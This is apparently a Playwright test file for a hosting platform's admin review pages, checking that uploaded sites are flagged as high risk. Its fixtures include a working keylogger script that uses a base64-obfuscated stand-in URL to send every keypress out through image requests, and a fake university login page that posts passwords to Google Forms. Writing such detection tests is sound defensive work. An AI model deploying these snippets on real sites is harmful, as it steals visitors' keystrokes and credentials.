import { expect, test } from '@playwright/test';
import { ADMIN, apiToken, createAccount, signIn } from './helpers';
import { uploadSite } from './site-helpers';

/**
 * A keylogger uploaded by an owner: the reviewer sees a high-risk badge on it in the review list,
 * filters the list to high risk, and on the review detail opens the finding at its line.
 */
test('a hostile upload shows a high-risk badge in the review list and its finding with an excerpt in the review detail', async ({
  page,
  request,
}) => {
  test.setTimeout(90_000);
  const owner = await createAccount(request, 'cc');
  const token = await apiToken(request, owner.username, owner.password);
  const name = `记事本${Date.now().toString(36)}`;
  const site = await uploadSite(request, token, name, {
    'index.html':
      '<!doctype html><title>记事本</title><textarea></textarea><script src="js/note.js"></script>',
    'js/note.js': [
      '// 自动保存',
      'var u = atob("aHR0cHM6Ly9jb2xsZWN0LmtleXNpbmsuZXhhbXBsZS5uZXQvaw==");',
      'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });',
    ].join('\n'),
  });
  await uploadSite(request, token, `${name}干净`, {
    'index.html': '<!doctype html><title>你好</title><p>你好</p>',
  });

  await signIn(page, ADMIN.username, ADMIN.password);
  // Signed in once the login page has gone (the token is kept before it navigates).
  await expect(page).not.toHaveURL(/\/login/);
  await page.goto(`/admin/reviews?search=${encodeURIComponent(name)}`);
  // The first page of a run can take a while on a busy machine.
  await expect(page.getByRole('link', { name, exact: true })).toBeVisible({ timeout: 30_000 });
  const badge = page
    .getByRole('row')
    .filter({ has: page.getByRole('link', { name, exact: true }) })
    .locator('.content-check-badge');
  // The static finding, and once the render has run, what the visitor saw the keylogger send
  // (keys pressed outside any field: runtime.canary-hidden), so one or more high findings.
  await expect(badge).toHaveText(/^高风险[1-9]\d*$/);
  // The clean site's badge (its longest label, 未发现已知风险) fits its column: at 1366 px it ran
  // into the version beside it.
  await page.setViewportSize({ width: 1366, height: 768 });
  const cleanCell = page
    .getByRole('row')
    .filter({ has: page.getByRole('link', { name: `${name}干净`, exact: true }) })
    .locator('td')
    .filter({ has: page.locator('.content-check-badge') });
  await expect(cleanCell.locator('.content-check-badge')).toHaveText('未发现已知风险');
  const [tag, cell] = await Promise.all([
    cleanCell.locator('.content-check-badge').boundingBox(),
    cleanCell.boundingBox(),
  ]);
  expect((tag?.x ?? 0) + (tag?.width ?? 0)).toBeLessThanOrEqual((cell?.x ?? 0) + (cell?.width ?? 0));

  // Filtered to high risk, only the keylogger stays.
  await page.getByRole('combobox', { name: '风险等级' }).click();
  await page.locator('.ant-select-item-option[title="高风险"]').click();
  await expect(page).toHaveURL(/risk=high/);
  await expect(page.getByRole('link', { name: `${name}干净` })).toHaveCount(0);
  await expect(page.getByRole('link', { name, exact: true })).toBeVisible();

  await page.getByRole('link', { name, exact: true }).click();
  await expect(page).toHaveURL(new RegExp(`/admin/reviews/${site.id}`));
  const finding =
    '脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入';
  await expect(page.locator('.check-findings').getByText(finding)).toBeVisible();
  // The level's reason names a high finding on the same host, above the table: the static one, or
  // once the render has run, what the visitor saw leave (keys sent one by one).
  await expect(page.locator('.check-reason')).toContainText(
    /^判为高风险，几乎可以肯定有恶意：.*collect\.keysink\.example\.net/,
  );
  // The excerpt is in the table; the location opens the file with that line marked.
  const line3 =
    'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });';
  await expect(page.locator('.check-findings').getByText(line3)).toBeVisible();
  await page.getByRole('button', { name: 'js/note.js:3' }).click();
  const file = page.getByLabel('js/note.js:3 文件内容');
  await expect(file).toContainText('// 自动保存');
  await expect(file.locator('.finding-source__line--current')).toHaveText(`3${line3}`);
  await expect(page.getByText('collect.keysink.example.net').first()).toBeVisible();
});

/**
 * Levels that mean something, with the render included: a page that loads Bootstrap from jsDelivr,
 * Google Fonts, a bilibili player and Baidu Tongji is information, not risk; a password sent to
 * Google Forms is high. The review list and the detail say why in one sentence.
 */
test('libraries, fonts, players and analytics are information; a password to Google Forms is high, and the reviewer reads why', async ({
  page,
  request,
}) => {
  test.setTimeout(120_000);
  const owner = await createAccount(request, 'lv');
  const token = await apiToken(request, owner.username, owner.password);
  const admin = await apiToken(request, ADMIN.username, ADMIN.password);
  const name = `社团${Date.now().toString(36)}`;
  const ordinary = await uploadSite(request, token, name, {
    'index.html': [
      '<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>摄影社</title>',
      '<link href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css" rel="stylesheet">',
      '<link href="https://fonts.googleapis.com/css2?family=Noto+Sans+SC&display=swap" rel="stylesheet">',
      '<script>var _hmt = _hmt || []; (function () { var hm = document.createElement("script"); hm.src = "https://hm.baidu.com/hm.js?0123456789abcdef0123456789abcdef"; var s = document.getElementsByTagName("script")[0]; s.parentNode.insertBefore(hm, s); })();</script>',
      '</head><body><h1>摄影社</h1>',
      '<iframe src="//player.bilibili.com/player.html?bvid=BV1xx411c7mD&page=1" allowfullscreen></iframe>',
      '<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle.min.js"></script>',
      '</body></html>',
    ].join('\n'),
  });
  const hostile = await uploadSite(request, token, `${name}认证`, {
    'index.html':
      '<!doctype html><meta charset="utf-8"><title>统一身份认证</title><p>您的账号即将过期，请重新验证。</p>' +
      '<form action="https://docs.google.com/forms/d/e/1FAIpQLSexample/formResponse" method="post">' +
      '<input name="entry.1" placeholder="学号"><input type="password" name="entry.2" placeholder="密码"><button>验证</button></form>',
  });
  // Both rendered: their runtime findings are in the reports the list and the detail show.
  for (const id of [ordinary.id, hostile.id]) {
    await expect
      .poll(
        async () => {
          const res = await request.get(`/api/admin/projects/${id}`, {
            headers: { authorization: `Bearer ${admin}` },
          });
          return Boolean((await res.json()).data?.content_check?.runtime);
        },
        { timeout: 60_000 },
      )
      .toBe(true);
  }

  await signIn(page, ADMIN.username, ADMIN.password);
  await expect(page).not.toHaveURL(/\/login/);
  await page.goto(`/admin/reviews?search=${encodeURIComponent(name)}&sort=risk`);
  await expect(page.getByRole('link', { name, exact: true })).toBeVisible({ timeout: 30_000 });
  const rowOf = (n: string) =>
    page.getByRole('row').filter({ has: page.getByRole('link', { name: n, exact: true }) });
  await expect(rowOf(name).locator('.content-check-badge')).toHaveAttribute('data-level', /^(low|info)$/);
  await expect(rowOf(name).locator('.content-check-reason')).toContainText('只有供参考的信息');
  await expect(rowOf(`${name}认证`).locator('.content-check-badge')).toHaveAttribute('data-level', 'high');
  // The reason names the worst finding: the render's visitor typing a password that leaves for
  // docs.google.com, or the static form that posts it there; both are high.
  const passwordToForms =
    /^判为高风险，几乎可以肯定有恶意：(表单把密码提交到表单服务|页面把访客在“entry\.2”中输入的密码发往其他主机) docs\.google\.com/;
  await expect(rowOf(`${name}认证`).locator('.content-check-reason')).toHaveText(passwordToForms);
  // Sorted by risk: the high one first.
  await expect(page.locator('.admin-project-cell__name').first()).toHaveText(`${name}认证`);

  await rowOf(`${name}认证`)
    .getByRole('link', { name: `${name}认证`, exact: true })
    .click();
  await expect(page.locator('.check-reason')).toHaveText(passwordToForms);
  // The ordinary site's detail lists its services as information.
  await page.goto(`/admin/reviews/${ordinary.id}`);
  await expect(page.locator('.check-reason')).toContainText('只有供参考的信息', { timeout: 30_000 });
  await expect(page.getByText(/页面运行时使用公共 CDN jsDelivr（cdn\.jsdelivr\.net/)).toBeVisible();
});
